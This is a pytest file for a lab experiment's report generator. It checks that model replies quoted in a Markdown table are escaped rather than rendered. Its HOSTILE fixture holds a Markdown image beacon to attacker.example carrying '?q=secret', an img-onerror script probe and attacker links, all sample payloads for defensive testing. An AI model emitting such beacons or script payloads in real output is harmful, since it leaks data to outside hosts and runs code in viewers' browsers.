"""report.md of a lab experiment quotes the model's replies and the prompts in a table: found by a walkthrough,
they went in as Markdown, so a reply holding an image link made whoever viewed report.md fetch it, and HTML,
links and emphasis were rendered rather than shown."""

from __future__ import annotations

import pytest

from app.lab.experiments.common import ExperimentReport, to_markdown

markdown_it = pytest.importorskip("markdown_it")  # CommonMark + GFM tables, as GitHub and editors render report.md

HOSTILE = (
    "![pixel](http://attacker.example/p.png?q=secret) <img src=x onerror=alert(1)> "
    "[click](http://attacker.example) <http://attacker.example> **loud** `code` a|b\nnew line"
)


def rendered(reply: str) -> str:
    report = ExperimentReport(
        name="overinference",
        title="t",
        backend="embedded",
        model="m",
        rows=[{"prompt": "请判断这个方案是否合理。", "raw_reply": reply}],
    )
    return str(markdown_it.MarkdownIt("commonmark").enable("table").render(to_markdown(report)))


def test_a_reply_holding_markup_is_shown_as_text_not_rendered() -> None:
    html = rendered(HOSTILE[:80])
    assert html.count("<img") == 1 and '<img src="overinference.png"' in html  # the report's chart, nothing else
    assert "<a " not in html and "<strong>" not in html and "<code>" not in html
    assert "![pixel](http://attacker.example/p.png?q=secret) &lt;img src=x o" in html  # the reply, as written


def test_a_reply_stays_in_its_row_and_column() -> None:
    html = rendered("a|b\nc\rd")
    assert html.count("<tr>") == 3  # the summary's header, the rows' header, one row: no row of the newline's own
    assert "<td>a|b c d</td>" in html  # the bar made no column of its own
    assert "<td>请判断这个方案是否合理。</td>" in html
